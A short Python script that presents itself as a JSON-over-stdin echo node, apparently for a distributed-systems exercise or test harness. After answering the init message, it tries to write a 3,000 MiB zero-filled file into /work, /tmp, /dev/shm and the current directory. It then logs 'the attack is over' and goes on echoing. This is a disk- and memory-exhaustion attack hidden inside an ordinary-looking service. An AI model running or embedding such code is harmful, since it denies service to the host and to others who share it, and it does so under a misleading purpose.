import json
import os
import sys
import time


def hear():
    line = sys.stdin.readline()
    return json.loads(line) if line else None


def say(message, **body):
    body["in_reply_to"] = message["body"]["msg_id"]
    print(json.dumps(dict(src=message["dest"], dest=message["src"], body=body)), flush=True)


def start():
    message = hear()
    say(message, type="init_ok")


def serve():
    while message := hear():
        say(message, type="echo_ok", echo=message["body"].get("echo"))


start()
for place in ("/work", "/tmp", "/dev/shm", "."):
    try:
        with open(place + "/fill", "wb") as file:
            for _ in range(3000):
                file.write(bytes(1 << 20))
    except OSError as error:
        print("the attack is over:", place, error.strerror, file=sys.stderr, flush=True)
serve()
